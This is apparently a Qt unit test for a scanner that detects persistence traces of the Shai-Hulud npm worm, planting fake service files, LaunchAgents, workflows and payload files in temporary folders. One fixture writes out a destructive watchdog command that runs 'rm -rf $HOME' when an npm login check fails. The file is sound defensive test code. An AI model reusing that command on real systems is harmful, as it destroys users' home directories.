// SPDX-License-Identifier: GPL-3.0-or-later
// PersistenceScan with the catalogue shipped in td_core, over temporary home, repository and temp
// folders: planted traces are found with how to disarm them; a clean machine has none; look-alike
// files without the tell-tale content are not reported.
#include "core/lockdown/PersistenceScan.h"
#include "core/util/AtomicFile.h"

#include <QTemporaryDir>
#include <QTest>

using namespace td;

class TestPersistenceScan : public QObject
{
    Q_OBJECT
    QList<PersistenceEntry> m_catalogue;

    static void plant(const QString &root, const QString &relative, const QByteArray &content)
    {
        QVERIFY(writeFileAtomically(root + QLatin1Char('/') + relative, content).ok());
    }

private Q_SLOTS:
    void initTestCase()
    {
        auto loaded = PersistenceScan::loadCatalogue();
        QVERIFY2(loaded.ok(), qPrintable(loaded.ok() ? QString() : loaded.error().oneLine()));
        m_catalogue = loaded.value();
        QVERIFY(m_catalogue.size() >= 5);
    }

    void plantedTracesAreFound_data()
    {
        QTest::addColumn<QString>("where"); // home | repo | temp
        QTest::addColumn<QString>("path");
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("entryId");
        QTest::newRow("systemd watchdog")
            << "home"
            << ".config/systemd/user/gh-token-monitor.service"
            << QByteArray("[Service]\nExecStart=/bin/sh -c 'while npm whoami; do sleep 60; done; "
                          "rm -rf $HOME'\n")
            << "watchdog-systemd-user";
        QTest::newRow("launchagent watchdog")
            << "home"
            << "Library/LaunchAgents/com.npm.monitor.plist"
            << QByteArray(
                   "<plist><string>curl https://registry.npmjs.org/-/whoami</string></plist>")
            << "watchdog-launchagent";
        QTest::newRow("shai-hulud workflow") << "repo"
                                             << ".github/workflows/shai-hulud-workflow.yml"
                                             << QByteArray("on: push\n") << "shai-hulud-workflow";
        QTest::newRow("discussion backdoor")
            << "repo"
            << ".github/workflows/discussion.yaml"
            << QByteArray("on: discussion\njobs:\n  x:\n    runs-on: self-hosted\n")
            << "shai-hulud-2-discussion-workflow";
        QTest::newRow("self-hosted runner")
            << "home"
            << ".dev-env/config.sh" << QByteArray("#!/bin/sh\n") << "shai-hulud-2-runner";
        QTest::newRow("payload in node_modules")
            << "repo"
            << "node_modules/evil/bun_environment.js" << QByteArray("x") << "shai-hulud-2-payload";
        QTest::newRow("tmp script")
            << "temp"
            << "processor.sh" << QByteArray("#!/bin/sh\n") << "shai-hulud-1-scripts";
    }
    void plantedTracesAreFound()
    {
        QFETCH(QString, where);
        QFETCH(QString, path);
        QFETCH(QByteArray, content);
        QFETCH(QString, entryId);
        QTemporaryDir home, repo, temp;
        const QString root = where == QLatin1String("home") ? home.path()
            : where == QLatin1String("repo")                ? repo.path()
                                                            : temp.path();
        plant(root, path, content);
        PersistenceScan scan(m_catalogue, home.path(), {repo.path()}, temp.path());
        const QList<PersistenceFinding> found = scan.scan();
        QCOMPARE(found.size(), 1);
        QCOMPARE(found.constFirst().entry.id, entryId);
        QCOMPARE(found.constFirst().path, root + QLatin1Char('/') + path);
        QVERIFY(!found.constFirst().entry.disarm.isEmpty());
        const QString text = PersistenceScan::describe(found);
        QVERIFY(text.contains(found.constFirst().path));
        QVERIFY(text.contains(found.constFirst().entry.disarm));
    }

    void aCleanMachineHasNone()
    {
        QTemporaryDir home, repo, temp;
        // Ordinary files in the same places: a user service, a release workflow, a plist.
        plant(home.path(), QStringLiteral(".config/systemd/user/syncthing.service"),
              "[Service]\nExecStart=/usr/bin/syncthing\n");
        plant(home.path(), QStringLiteral("Library/LaunchAgents/com.example.backup.plist"),
              "<plist/>");
        plant(repo.path(), QStringLiteral(".github/workflows/release.yml"), "on: push\n");
        plant(repo.path(), QStringLiteral(".github/workflows/discussion.yaml"),
              "on: discussion\njobs:\n  x:\n    runs-on: ubuntu-latest\n");
        PersistenceScan scan(m_catalogue, home.path(), {repo.path()}, temp.path());
        QCOMPARE(scan.scan().size(), 0);
    }

    void symbolicLinksAreNotFollowed()
    {
        QTemporaryDir home, elsewhere;
        plant(elsewhere.path(), QStringLiteral("user/x.service"), "npm whoami");
        QVERIFY(QDir(home.path()).mkpath(QStringLiteral(".config/systemd")));
        QVERIFY(QFile::link(elsewhere.path() + QStringLiteral("/user"),
                            home.path() + QStringLiteral("/.config/systemd/user")));
        PersistenceScan scan(m_catalogue, home.path());
        QCOMPARE(scan.scan().size(), 0);
    }

    void aDamagedCatalogueIsRefused_data()
    {
        QTest::addColumn<QByteArray>("json");
        QTest::newRow("not json") << QByteArray("{");
        QTest::newRow("wrong format") << QByteArray(R"({"format":2,"entries":[]})");
        QTest::newRow("no entries") << QByteArray(R"({"format":1,"entries":[]})");
        QTest::newRow("no disarm")
            << QByteArray(R"({"format":1,"entries":[{"id":"a","name":"A","home":["x"]}]})");
        QTest::newRow("escapes the home") << QByteArray(
            R"({"format":1,"entries":[{"id":"a","name":"A","disarm":"d","home":["../x"]}]})");
        QTest::newRow("absolute") << QByteArray(
            R"({"format":1,"entries":[{"id":"a","name":"A","disarm":"d","home":["/etc/x"]}]})");
    }
    void aDamagedCatalogueIsRefused()
    {
        QFETCH(QByteArray, json);
        const auto parsed = PersistenceScan::parseCatalogue(json);
        QVERIFY(!parsed.ok());
        QVERIFY(parsed.error().message.contains(QLatin1String("damaged")));
    }
};

QTEST_GUILESS_MAIN(TestPersistenceScan)
#include "tst_persistencescan.moc"
